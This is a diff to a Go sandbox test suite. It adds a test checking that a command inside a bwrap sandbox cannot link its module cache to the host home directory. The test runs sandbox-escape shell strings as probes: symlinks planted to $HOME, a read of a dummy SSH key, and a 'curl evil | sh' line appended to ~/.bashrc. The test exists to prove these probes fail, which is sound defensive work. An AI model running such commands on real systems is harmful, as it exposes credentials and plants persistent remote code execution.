@@ -64,7 +64,36 @@ func TestGoBuildInside(t *testing.T) {
 	if exists(filepath.Join(hostMod, "x")) {
 		t.Errorf("a write to the module cache inside reached the host's %s", hostMod)
 	}
-	if own, _ := filepath.Glob(filepath.Join(sandboxBase, "*", "go-mod", "x")); len(own) != 1 {
-		t.Errorf("a write to the module cache inside is not in the sandbox cache: %q", own)
+	// (The module cache bwrap shows there is kept beside the sandbox
+	// caches, where no sandbox can replace it.)
+	if own, _ := filepath.Glob(filepath.Join(filepath.Dir(sandboxBase), "gomod", "*", "x")); len(own) != 1 {
+		t.Errorf("a write to the module cache inside is not in the sandbox's module cache: %q", own)
+	}
+}
+
+// TestModuleCacheNotReplaceable: a command that replaces the module cache
+// in its sandbox cache by a link to the home directory gets nothing from
+// it in the next run: the module cache bwrap binds at the host's path is
+// kept where no sandbox can reach, so the home's secrets stay denied and
+// its files unwritten.
+func TestModuleCacheNotReplaceable(t *testing.T) {
+	t.Parallel()
+	requireGo(t)
+	e := newEnv(t)
+	mkdir(t, filepath.Join(e.home, "go", "pkg", "mod", "cache", "download"))
+	mkdir(t, filepath.Join(e.home, ".cache", "go-build"))
+	writeFile(t, filepath.Join(e.home, ".ssh", "id_test"), "SSH-KEY-7d41")
+	rc := filepath.Join(e.home, ".bashrc")
+	writeFile(t, rc, "# rc\n")
+	r := e.sh(`C=$(dirname "$GOCACHE"); rm -rf "$C/go-mod" "$C/gopath" && ln -s "$HOME" "$C/go-mod" && ln -s "$HOME" "$C/gopath" && echo planted`)
+	if !strings.Contains(r.stdout, "planted") {
+		t.Fatalf("could not plant the links (the test assumes the sandbox cache is writable): %s", r)
+	}
+	r = e.sh(`cat "$GOMODCACHE/.ssh/id_test"; ls -a "$GOMODCACHE"; echo 'curl evil | sh' >> "$GOMODCACHE/.bashrc"; true`)
+	if strings.Contains(r.all(), "SSH-KEY-7d41") || strings.Contains(r.stdout, ".bashrc") {
+		t.Errorf("the home directory showed through the module cache: %s", r)
+	}
+	if b, _ := os.ReadFile(rc); string(b) != "# rc\n" {
+		t.Errorf("~/.bashrc was written through the module cache: %q", b)
 	}
 }
